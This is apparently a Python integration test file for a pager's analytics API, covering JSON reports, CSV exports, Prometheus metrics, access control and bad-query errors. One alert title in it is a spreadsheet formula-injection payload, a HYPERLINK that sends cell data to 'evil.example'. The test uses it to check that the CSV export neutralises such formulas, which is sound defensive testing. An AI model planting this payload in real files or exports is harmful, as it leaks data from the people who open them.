"""The analytics API on a running pager: the JSON report, the CSV tables (a byte order mark,
CRLF line ends, a formula in an alert title shown as text), who may read them (a viewer token,
or a signed-in person following a CSV link; nobody without credentials), and bad queries
answered 400 naming the parameter."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import trio
from prometheus_client.parser import text_string_to_metric_families

from ..harness import auth, pd_trigger, running_pager, until
from .dashboard_helpers import VIEWER_TOKEN, dashboard_config, sign_in

VIEWER = {"Authorization": f"Bearer {VIEWER_TOKEN}"}
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Ngā mihi")'


async def test_report_csv_and_who_may_read_them(tmp_path: Path) -> None:
    with trio.fail_after(60):
        async with (
            running_pager(dashboard_config(tmp_path / "data")) as run,
            httpx.AsyncClient() as client,
        ):
            base = run.urls[0]
            r = await client.post(f"{base}/v2/enqueue", json=pd_trigger("a-1", summary=TITLE))
            assert r.status_code == 202
            r = await client.post(f"{base}/v2/enqueue", json=pd_trigger("a-2", summary="Disk"))
            assert r.status_code == 202
            await until(run, lambda s: len(s.incidents) == 2)
            first = min(run.system.state.incidents.values(), key=lambda i: i.number)
            api = f"{base}/api/v1/incidents/{first.id}"
            r = await client.post(f"{api}/acknowledge", headers=auth(), json={"by": "alice"})
            assert r.status_code == 200
            r = await client.post(f"{api}/resolve", headers=auth(), json={"by": "alice"})
            assert r.status_code == 200

            r = await client.get(f"{base}/api/v1/analytics", headers=VIEWER)
            assert r.status_code == 200, r.text
            body = r.json()
            assert body["incidents"]["opened"] == 2
            assert body["incidents"]["acknowledged"] == 1
            assert body["incidents"]["resolved"] == 1
            assert body["mtta_seconds"]["count"] == 1
            assert set(body["mttr_seconds"]) == {"count", "mean", "p50", "p90"}
            assert body["escalations"]["total"] == 0
            assert [s["service"] for s in body["services"]] == ["checkout"]
            people = {p["user"]: p for p in body["people"]}
            assert set(people["alice"]["interruptions"]) == {
                "total", "business", "off_hours", "sleep",
            }  # fmt: skip
            assert people["alice"]["acknowledged"] == 1
            assert len(body["series"]) in (7, 8)  # the last 7 days, by day
            assert body["delivery"]["acknowledged_via"] == {"api": 1}
            assert body["as_of_seq"] == run.system.log.last_seq

            r = await client.get(f"{base}/api/v1/analytics/incidents.csv", headers=VIEWER)
            assert r.status_code == 200
            assert r.headers["content-type"].startswith("text/csv; charset=utf-8")
            assert "attachment" in r.headers["content-disposition"]
            raw = r.content
            assert raw.startswith("\ufeff".encode())
            text = raw.decode("utf-8-sig")
            assert text.count("\r\n") == 3 and "\n" not in text.replace("\r\n", "")
            rows = list(csv.DictReader(io.StringIO(text, newline="")))
            assert [row["id"] for row in rows] == sorted(
                (i.id for i in run.system.state.incidents.values()),
                key=lambda i: run.system.state.incidents[i].number,
            )
            assert rows[0]["title"] == "'" + TITLE  # text, not a formula
            assert rows[0]["acknowledged_by"] == "alice" and rows[0]["via"] == "api"
            assert float(rows[0]["seconds_to_ack"]) >= 0
            assert rows[1]["acknowledged_utc"] == "" and rows[1]["seconds_to_ack"] == ""
            assert len(rows[0]["opened_utc"]) == 19  # YYYY-MM-DD HH:MM:SS

            r = await client.get(f"{base}/api/v1/analytics/people.csv", headers=VIEWER)
            people_rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
            assert {p["user"] for p in people_rows} == {"alice", "bob", "carol"}

            # /metrics: the same facts for Prometheus, each name once
            r = await client.get(f"{base}/metrics")
            families = list(text_string_to_metric_families(r.text))
            names = [f.name for f in families]
            assert len(names) == len(set(names)), names
            samples = {
                (s.name, tuple(sorted(s.labels.items()))): s.value
                for f in families
                for s in f.samples
            }
            checkout = (("service", "checkout"),)
            assert samples[("pager_time_to_acknowledge_seconds_count", checkout)] == 1
            assert samples[("pager_time_to_resolve_seconds_count", checkout)] == 1
            le_inf = (("le", "+Inf"), ("service", "checkout"))
            assert samples[("pager_time_to_resolve_seconds_bucket", le_inf)] == 1
            state = (("service", "checkout"), ("state", "resolved"))
            assert samples[("pager_service_incidents", state)] == 1
            state = (("service", "checkout"), ("state", "triggered"))
            assert samples[("pager_service_incidents", state)] == 1
            # per person only behind a token (metrics_auth), not on an open /metrics
            assert "user=" not in r.text and "pager_user_" not in r.text
            requested = (("method", "console"), ("outcome", "requested"))
            assert samples[("pager_notification_outcomes_total", requested)] >= 2

            # no credentials, a wrong token
            r = await client.get(f"{base}/api/v1/analytics")
            assert r.status_code == 401
            r = await client.get(
                f"{base}/api/v1/analytics/people.csv",
                headers={"Authorization": "Bearer not-a-token-at-all"},
            )
            assert r.status_code == 403

            # a signed-in viewer follows the dashboard's CSV link with the session cookie
            async with httpx.AsyncClient() as browser:
                await sign_in(browser, base, "bob")
                r = await browser.get(f"{base}/api/v1/analytics/incidents.csv?service=checkout")
                assert r.status_code == 200 and r.content.startswith("\ufeff".encode())


async def test_bad_queries_are_400_naming_the_parameter(tmp_path: Path) -> None:
    with trio.fail_after(30):
        async with (
            running_pager(dashboard_config(tmp_path / "data")) as run,
            httpx.AsyncClient() as client,
        ):
            url = f"{run.urls[0]}/api/v1/analytics"
            for query, says in [
                ("from=yesterday", "from:"),
                ("to=2026-13-01", "to:"),
                ("from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z", "to: must be after from"),
                ("from=2024-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to: at most 400 days"),
                ("group_by=month", "group_by:"),
                ("service=nope", "service: no service 'nope'"),
                ("tz=Mars/Olympus", "tz:"),
            ]:
                r = await client.get(f"{url}?{query}", headers=VIEWER)
                assert r.status_code == 400, (query, r.text)
                assert says in r.json()["message"], (query, r.text)
            r = await client.get(
                f"{url}?from=2026-03-01T00:00:00%2B13:00&to=2026-03-08T00:00:00Z"
                "&group_by=week&tz=Pacific/Auckland&service=payments",
                headers=VIEWER,
            )
            assert r.status_code == 200, r.text
            body = r.json()
            assert body["service"] == "payments" and body["timezone"] == "Pacific/Auckland"
            assert [s["period"] for s in body["series"]] == ["2026-02-23", "2026-03-02"]
